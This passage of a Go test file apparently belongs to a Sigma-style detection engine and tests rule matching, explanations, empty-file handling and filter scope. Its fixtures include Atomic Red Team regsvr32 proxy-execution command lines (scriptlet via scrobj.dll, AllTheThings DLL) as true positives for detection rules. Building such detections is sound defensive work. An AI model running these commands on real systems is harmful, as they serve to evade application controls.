			sysmon(1, "Image", sys32, "CommandLine", `regsvr32 C:\Program Files\App\x.dll`)},
		{"b35b64dd-fc5e-4e0a-b6fd-9b320bb4411b",
			sysmon(1, "Image", sys32, "CommandLine", `regsvr32.exe /s /u /i:C:\AtomicRedTeam\atomics\T1117\RegSvr32.sct scrobj.dll`),
			sysmon(1, "Image", sys32, "CommandLine", `regsvr32.exe /s /i:U "C:\Program Files\Vendor\component.dll"`)},
		{"5620af46-b689-4f09-8926-be37ab5e2e42",
			sysmon(1, "Image", `C:\Windows\SysWOW64\regsvr32.exe`, "ParentImage", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"CommandLine", `"C:\Windows\syswow64\regsvr32.exe" /s C:\AtomicRedTeam\atomics\T1218.010\bin\AllTheThingsx86.dll`),
			sysmon(1, "Image", `C:\Windows\SysWOW64\regsvr32.exe`, "ParentImage", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"CommandLine", `"C:\Windows\syswow64\regsvr32.exe" /s "C:\Program Files (x86)\Vendor\x86.dll"`)},
		{"00eb5cf4-f58c-4d55-9463-758f6a5085e0",
			sysmon(1, "Image", `C:\Windows\System32\cmd.exe`, "ParentImage", `C:\ProgramData\jabber.exe`, "ParentRegsvr32", "renamed"),
			sysmon(1, "Image", `C:\Windows\System32\cmd.exe`, "ParentImage", sys32, "ParentRegsvr32", "named")},
	}
}

// TestBuiltinExplanations pins what each built-in rule reports for its
// true positive and near miss (matches, details, suppressed filters).
func TestBuiltinExplanations(t *testing.T) {
	s := Load(LoadOptions{})
	type out struct {
		Case       string        `json:"case"`
		Rule       string        `json:"rule"`
		Details    []MatchDetail `json:"details"`
		Suppressed []string      `json:"suppressed"`
	}
	var all []out
	for _, tc := range builtinCases() {
		for _, ev := range []struct {
			name string
			ev   *mapEvent
		}{{"hit", tc.hit}, {"miss", tc.miss}} {
			for _, m := range s.Candidates(ev.ev, nil) {
				all = append(all, out{Case: tc.id + " " + ev.name, Rule: m.Rule.ID, Details: m.Details, Suppressed: m.Suppressed})
			}
		}
	}
	data, err := json.MarshalIndent(all, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	golden.Assert(t, "builtin_explain.json", append(data, '\n'))
}

func TestEmptyFileIsReported(t *testing.T) {
	s := loadRules(t, map[string]string{"empty.yml": "", "comment.yaml": "# nothing\n"}, "")
	if len(s.Rules()) != 0 || len(s.Rejected()) != 0 || len(s.Skipped()) != 2 {
		t.Errorf("rules %d rejected %+v skipped %+v", len(s.Rules()), s.Rejected(), s.Skipped())
	}
}

// TestFilterDocumentScope checks "rules: any" and the logsource test of
// filter documents (the specification's example filter shape).
func TestFilterDocumentScope(t *testing.T) {
	proc := procRule("    s:\n        Image|endswith: '\\rar.exe'\n    condition: s\n")
	img := "title: loads\nid: 22222222-2222-2222-2222-222222222222\nlogsource:\n    category: image_load\n    product: windows\ndetection:\n    s:\n        Image|endswith: '\\rar.exe'\n    condition: s\n"
	anyFilter := `title: Filter Administrator account
description: The valid administrator account start with adm_
logsource:
    category: process_creation
    product: windows
filter:
    rules: any
    selection:
        User|startswith: 'adm_'
    condition: not selection
`
	s := loadRules(t, map[string]string{"a.yml": proc, "b.yml": img, "f.yml": anyFilter}, "")
	if len(s.Rejected()) != 0 {
		t.Fatal(s.Rejected())
	}
	if matches(s, sysmon(1, "Image", `C:\rar.exe`, "User", "adm_bob")) {
		t.Error("process_creation rule not filtered")
	}
	if !matches(s, sysmon(1, "Image", `C:\rar.exe`, "User", "bob")) {
		t.Error("filter hid a non-admin")
	}
	if !matches(s, sysmon(7, "Image", `C:\rar.exe`, "User", "adm_bob")) {
		t.Error("filter applied outside its logsource")
	}
	named := strings.Replace(anyFilter, "rules: any", "rules:\n        - 22222222-2222-2222-2222-222222222222", 1)
	s = loadRules(t, map[string]string{"b.yml": img, "f.yml": named}, "")
	if len(s.Rejected()) != 0 || len(s.Skipped()) != 1 || !strings.Contains(s.Skipped()[0].Reason, "outside the filter's") {
		t.Errorf("rejected %+v skipped %+v", s.Rejected(), s.Skipped())
	}
	noRules := strings.Replace(anyFilter, "    rules: any\n", "", 1)
	s = loadRules(t, map[string]string{"f.yml": noRules}, "")
	if len(s.Rejected()) != 1 || !strings.Contains(s.Rejected()[0].Reason, "no rules") {
		t.Errorf("rejected %+v", s.Rejected())
	}
}
